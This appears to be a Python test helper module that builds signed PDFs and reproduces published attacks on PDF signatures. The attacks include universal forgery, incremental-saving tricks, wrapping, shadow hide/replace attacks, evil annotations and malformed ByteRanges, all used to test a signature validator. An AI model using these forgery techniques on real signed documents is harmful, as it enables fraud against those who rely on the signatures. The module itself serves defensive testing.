"""The published attacks on signed PDFs, carried out on files of our own.

Classes and names: Mladenov and others, "1 Trillion Dollar Refund" (CCS 2019: universal forgery, incremental saving,
wrapping); "Shadow Attacks" (NDSS 2021: hide, replace, hide and replace); "Breaking the Specification: PDF
Certification" (S&P 2021: evil annotation, sneaky signature).
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    NameObject,
    NullObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, MDPPerm, SigFieldSpec, append_signature_field
from pyhanko.sign.signers import pdf_byterange

from tests.signatures.trial_pki import TrialPki

_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")


def paper() -> bytes:
    """Two pages, a text field, a picture that covers a line, and a page that nothing shows: ready for shadows."""
    pdf = pikepdf.new()
    for _ in range(2):
        page = pdf.add_blank_page(page_size=(595, 842)).obj
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        cover = pdf.make_stream(b"1 g 0 0 200 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 20])
        page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)), XObject=Dictionary(Cover=cover))
        page.Contents = pdf.make_stream(b"BT /F1 12 Tf 56 700 Td (Pay 1,000) Tj ET q 1 0 0 1 56 600 cm /Cover Do Q")
    hidden = Dictionary(pdf.pages[0].obj)
    hidden.Contents = pdf.make_stream(b"BT /F1 12 Tf 56 700 Td (Pay 1,000,000) Tj ET")
    pdf.Root.Spare = Array([pdf.make_indirect(hidden)])
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("amount"),
        V=String(""),
        Rect=[56, 120, 256, 140],
        F=4,
    )
    page = pdf.pages[1].obj
    widget = pdf.make_indirect(field)
    widget.P = page
    page.Annots = Array([widget])
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([widget])))
    target = io.BytesIO()
    pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


def many_objects(count: int) -> bytes:
    """The paper with so many more objects, all of which the first page leads to."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper())) as pdf:
        pdf.pages[0].obj.PieceInfo = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(count)])
        pdf.save(target)
    return target.getvalue()


def updated(data: bytes, change: Callable[[Any], None]) -> bytes:
    """`data` with a revision appended in which `change` was made."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def boasting(data: bytes, size: int = 3_200_000) -> bytes:
    """`data` whose last trailer claims so many objects, as whoever wrote it likes; readers only note it."""
    at = data.rindex(b"/Size")
    return data[:at] + re.sub(rb"/Size\s+\d+", b"/Size %d" % size, data[at:], count=1)


def page_of(writer: Any, number: int = 0) -> Any:
    return writer.root["/Pages"]["/Kids"][number].get_object()


def dictionary(**entries: Any) -> Any:
    return DictionaryObject({NameObject("/" + name): value for name, value in entries.items()})


def all_byte_ranges(data: bytes) -> list[tuple[int, ...]]:
    """The ranges of all signatures, in the order in which they were made."""
    found = [tuple(int(number) for number in match.split()) for match in _RANGE.findall(data)]
    return sorted(found, key=lambda ranges: ranges[2] + ranges[3])


def byte_range(data: bytes) -> tuple[int, ...]:
    """The ranges of the last signature in the file."""
    return tuple(int(number) for number in _RANGE.findall(data)[-1].split())


def signature_of(writer: Any) -> Any:
    return next(
        one.get_object()
        for one in writer.root["/AcroForm"]["/Fields"]
        if "/V" in one.get_object() and one.get_object().get("/FT") == "/Sig"
    )["/V"]


# What is done to the file after signing.


def replace_contents(writer: Any) -> None:
    page = page_of(writer)
    page["/Contents"] = writer.add_object(StreamObject(stream_data=b"BT /F1 12 Tf 56 700 Td (Pay 1,000,000) Tj ET"))
    writer.update_container(page)


def add_page(writer: Any) -> None:
    tree = writer.root["/Pages"]
    page = dictionary(Type=NameObject("/Page"), Parent=writer.root.raw_get("/Pages"), MediaBox=_box(0, 0, 595, 842))
    tree["/Kids"].append(writer.add_object(page))
    tree["/Count"] = NumberObject(3)
    writer.update_container(tree)


def remove_page(writer: Any) -> None:
    tree = writer.root["/Pages"]
    tree["/Kids"] = ArrayObject([tree["/Kids"].raw_get(0)])
    tree["/Count"] = NumberObject(1)
    writer.update_container(tree)


def annotate(subtype: str) -> Callable[[Any], None]:
    def add(writer: Any) -> None:
        page = page_of(writer)
        note = dictionary(
            Type=NameObject("/Annot"),
            Subtype=NameObject("/" + subtype),
            Contents=TextStringObject("Approved"),
            DA=TextStringObject("/Helv 12 Tf"),
            Rect=_box(56, 600, 300, 640),
        )
        page["/Annots"] = ArrayObject([*page.get("/Annots", []), writer.add_object(note)])
        writer.update_container(page)

    return add


def fill_in(writer: Any) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/V"] = TextStringObject("1,000,000")
    writer.update_container(field)


def open_action(writer: Any) -> None:
    action = dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    writer.root["/OpenAction"] = action
    writer.update_root()


def uncover(writer: Any) -> None:
    """Shadow attack, hide: the picture that covered a line is emptied."""
    cover = page_of(writer)["/Resources"]["/XObject"]["/Cover"]
    cover._data = b"n"
    cover._encoded_data = None
    writer.update_container(cover)


def change_font(writer: Any) -> None:
    """Shadow attack, replace: other glyphs for the same text."""
    font = page_of(writer)["/Resources"]["/Font"]["/F1"]
    font["/BaseFont"] = NameObject("/ZapfDingbats")
    writer.update_container(font)


def show_the_spare_page(writer: Any) -> None:
    """Shadow attack, hide and replace: a page that was signed along, but hidden, takes the place of the first."""
    tree = writer.root["/Pages"]
    tree["/Kids"] = ArrayObject([writer.root["/Spare"].raw_get(0), tree["/Kids"].raw_get(1)])
    writer.update_container(tree)


def with_default_font() -> bytes:
    """The paper, whose form draws values with a font of its own."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper())) as pdf:
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        pdf.Root.AcroForm.DR = Dictionary(Font=Dictionary(Helv=font))
        pdf.Root.AcroForm.DA = String("/Helv 12 Tf")
        pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


def _restyle(change: Callable[[Any, Any], None]) -> Callable[[Any], None]:
    def both(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        change(writer, form)
        writer.update_container(form)

    return both


def _dingbats(writer: Any) -> Any:
    names = {"Type": NameObject("/Font"), "Subtype": NameObject("/Type1"), "BaseFont": NameObject("/ZapfDingbats")}
    return writer.add_object(dictionary(**names))


def _override_font(writer: Any) -> None:
    font = writer.root["/AcroForm"]["/DR"]["/Font"]["/Helv"]
    font["/BaseFont"] = NameObject("/ZapfDingbats")
    writer.update_container(font)


RESTYLINGS: dict[str, Callable[[Any], None]] = {
    "drawn_anew": _restyle(lambda writer, form: form.__setitem__("/NeedAppearances", BooleanObject(True))),
    "default_appearance": _restyle(lambda writer, form: form.__setitem__("/DA", TextStringObject("/ZaDb 12 Tf"))),
    "default_font": _restyle(lambda writer, form: form["/DR"]["/Font"].__setitem__("/Helv", _dingbats(writer))),
    "overridden_font": _override_font,
}
add_default_font = _restyle(lambda writer, form: form["/DR"]["/Font"].__setitem__("/ZaDb", _dingbats(writer)))


def hide_field(writer: Any) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/F"] = NumberObject(2)  # ISO 32000-2, table 167: hidden
    writer.update_container(field)


def forge(change: Callable[[Any], None]) -> Callable[[Any], None]:
    """Universal forgery: other contents, and a signature dictionary that a careless reader finds nothing wrong with."""

    def both(writer: Any) -> None:
        replace_contents(writer)
        value = signature_of(writer)
        change(value)
        writer.update_container(value)

    return both


def _without(key: str) -> Callable[[Any], None]:
    return lambda value: value.pop(NameObject(key))


def _with(key: str, replacement: Any) -> Callable[[Any], None]:
    return lambda value: value.__setitem__(NameObject(key), replacement)


def _box(*numbers: int) -> Any:
    return ArrayObject(map(NumberObject, numbers))


FORGERIES = {
    "contents_missing": _without("/Contents"),
    "contents_null": _with("/Contents", NullObject()),
    "contents_empty": _with("/Contents", TextStringObject("")),
    "contents_zero": _with("/Contents", TextStringObject("\x00")),
    "range_missing": _without("/ByteRange"),
    "range_null": _with("/ByteRange", NullObject()),
    "range_empty": _with("/ByteRange", ArrayObject()),
    "range_negative": _with("/ByteRange", _box(0, -1, -1, -1)),
    "range_of_nothing": _with("/ByteRange", _box(0, 0, 0, 0)),
    "range_beyond_the_end": _with("/ByteRange", _box(0, 100, 200, 10**9)),
}


# Attacks on the bytes.


def without_table(data: bytes) -> bytes:
    """Incremental saving: an object appended, and neither cross-references nor a trailer for it."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.pages[0].obj.Contents.objgen[0]
    body = b"BT /F1 12 Tf 56 700 Td (Pay 1,000,000) Tj ET"
    return data + b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(body), body)


def with_trailer_only(data: bytes) -> bytes:
    """Incremental saving: as `without_table`, with a trailer, so that it looks finished."""
    start = data.rindex(b"startxref")
    return without_table(data) + data[data.rindex(b"trailer") : start] + data[start:]


def wrapped(data: bytes) -> bytes:
    """Wrapping: the second range is moved to the end; between them stand another range, page and table."""
    first, length, second, rest = byte_range(data)
    table_at = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    old_gap = data[length:second]
    cms = old_gap.strip(b"<>").rstrip(b"0")
    cms += b"0" * (len(cms) % 2)
    objects = _offsets(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0].obj.Contents.objgen[0]
        root = pdf.Root.objgen[0]
    moved_to = max(table_at, second) + 4000
    inserted = b"<" + cms + b">/ByteRange[0 %d %d %d]" % (length, moved_to, rest)
    inserted += b"/Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached>>\nendobj\n"
    objects = {number: at + (moved_to - second if at >= second else 0) for number, at in objects.items()}
    filler = b" " * (table_at - length - len(inserted))
    table = b"xref\n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % pair for pair in sorted(objects.items()) if pair[0] != page
    )
    body = b"BT /F1 12 Tf 56 700 Td (Pay 1,000,000) Tj ET"
    new_page = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (page, len(body), body)
    trailer = b"trailer\n<</Size %d/Root %d 0 R>>\n" % (max(objects) + 1, root)
    page_at = table_at + len(table) + len(b"%d 1\n%010d 00000 n \n" % (page, 0)) + len(trailer)
    table += b"%d 1\n%010d 00000 n \n" % (page, page_at)
    gap = inserted + filler + table + trailer + new_page
    gap += b" " * (moved_to - length - len(gap))
    return data[first : first + length] + gap + data[second : second + rest]


def _offsets(data: bytes) -> dict[int, int]:
    reader = PdfFileReader(io.BytesIO(data))
    with pikepdf.open(io.BytesIO(data)) as pdf:
        numbers = [one.objgen[0] for one in pdf.objects if isinstance(one, pikepdf.Object) and one.is_indirect]
    found = {}
    for number in numbers:
        place = reader.xrefs.get_historical_ref(_Reference(number), reader.xrefs.total_revisions - 1)
        if isinstance(place, int):
            found[number] = place
    return found


class _Reference:
    """As much of a reference as the table looks at."""

    def __init__(self, idnum: int) -> None:
        self.idnum, self.generation, self.pdf = idnum, 0, None


def signed_over(pki: TrialPki, data: bytes, choose: Callable[[tuple[int, ...]], tuple[int, ...]]) -> bytes:
    """`data` signed once more over the ranges that `choose` makes of the right ones: sound in itself, if not enough."""
    ranges = byte_range(data)
    chosen = choose(ranges)
    old = _RANGE.search(data, data.rindex(b"/ByteRange"))
    assert old is not None
    text = b"/ByteRange [" + b" ".join(b"%d" % number for number in chosen)
    made = bytearray(data)
    made[old.start() : old.end()] = text.ljust(old.end() - old.start() - 1) + b"]"
    covered = b"".join(bytes(made[at : at + size]) for at, size in zip(chosen[::2], chosen[1::2], strict=True))
    signer = pki.signer()
    signed = asyncio.run(
        signer.async_sign(hashlib.sha256(covered).digest(), "sha256", use_pades=True, signed_attr_settings=None)
    )
    contents = signed.dump().hex().encode()
    _, length, second, _ = ranges
    made[length + 1 : second - 1] = contents.ljust(second - length - 2, b"0")
    return bytes(made)


RANGES: dict[str, Callable[[tuple[int, ...]], tuple[int, ...]]] = {
    "starts_late": lambda r: (9, r[1] - 9, r[2], r[3]),
    "ends_early": lambda r: (0, r[1], r[2], r[3] - 60),
    "gap_too_wide": lambda r: (0, r[1] - 40, r[2], r[3]),
    "gap_too_wide_behind": lambda r: (0, r[1], r[2] + 40, r[3] - 40),
    "only_one": lambda r: (0, r[1]),
    "three": lambda r: (0, 100, 100, r[1] - 100, r[2], r[3]),
    "twice_the_same": lambda r: (0, r[1], 0, r[1]),
}


def visibly_stamped(pki: TrialPki, data: bytes, kind: str, monkeypatch: Any) -> bytes:
    """A document time stamp of /Type `kind` in a field that covers half the first page."""
    made = pdf_byterange.DocumentTimestamp.__init__

    def typed(self: Any, *arguments: Any, **options: Any) -> None:
        made(self, *arguments, **options)
        self["/Type"] = NameObject(kind)

    monkeypatch.setattr(pdf_byterange.DocumentTimestamp, "__init__", typed)
    with_field = updated(
        data, lambda writer: append_signature_field(writer, SigFieldSpec("Sneaky", box=(0, 400, 595, 842)))
    )
    return pki.stamp(with_field, field="Sneaky")


def certified(pki: TrialPki, permission: MDPPerm, data: bytes | None = None) -> bytes:
    """A certified file (ISO 32000-2, 12.8.2.2)."""
    return pki.sign(data or paper(), certify=True, docmdp_permissions=permission)


def locked(pki: TrialPki, lock: FieldMDPSpec, *, repeated: bool = True) -> bytes:
    """Signed in a field that locks others; `repeated`: the signature says so itself, as it should."""
    signed = pki.sign(paper(), spec=SigFieldSpec("Sig1", field_mdp_spec=lock))
    return signed if repeated else signed_over(pki, signed.replace(b"/FieldMDP", b"/FieldXYZ"), lambda ranges: ranges)


ALL, AMOUNT = FieldMDPSpec(FieldMDPAction.ALL), FieldMDPSpec(FieldMDPAction.INCLUDE, fields=["amount"])
OTHERS = FieldMDPSpec(FieldMDPAction.EXCLUDE, fields=["other"])
